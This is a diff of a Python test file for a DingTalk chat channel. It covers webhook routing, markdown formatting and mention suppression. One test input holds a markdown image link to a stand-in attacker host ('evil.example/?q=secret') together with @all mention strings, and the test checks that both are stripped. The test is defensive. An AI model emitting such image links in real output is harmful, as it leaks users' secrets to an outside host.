@@ -57,7 +57,8 @@ def without_webhook(ding: FakeDingTalk, kind: str = "1", **over: Any) -> Inbound
 
 async def test_an_answer_goes_to_the_webhook_of_its_message(ding: FakeDingTalk, dingtalk: DingTalkChannel) -> None:
     message = asked(base=ding.base, sessionWebhook=f"{ding.base}{SESSION}?session=abc%2F%3D+d")
-    await dingtalk.send(part(message, "# 标题\n**答**\n次行"))
+    (text,) = dingtalk.parts("# 标题\n**答**\n次行", "…")
+    await dingtalk.send(part(message, text))
     (reply,) = ding.replies
     assert reply.session == "abc/= d", "the address is used as it was given"
     assert reply.body == {"msgtype": "markdown", "markdown": {"title": "【标题】", "text": "# 标题\n**答**  \n次行"}}
@@ -434,10 +435,12 @@ def test_the_title_is_the_start_of_the_text(text: str, title: str) -> None:
     assert json.loads(message_parameters(text))["title"] == title
 
 
-def test_an_answer_can_mention_nobody() -> None:
-    body = json.loads(webhook_body("@all @staff002 <@staff002> ![x](https://evil.example/?q=secret)"))
-    assert "at" not in body
-    assert "![" not in body["markdown"]["text"]
+async def test_an_answer_can_mention_nobody(ding: FakeDingTalk, dingtalk: DingTalkChannel) -> None:
+    (text,) = dingtalk.parts("@all @staff002 <@staff002> ![x](https://evil.example/?q=secret)", "…")
+    await dingtalk.send(part(asked(base=ding.base), text))
+    (reply,) = ding.replies
+    assert "at" not in reply.body
+    assert "![" not in reply.text
 
 
 def test_codes_are_told_apart() -> None:
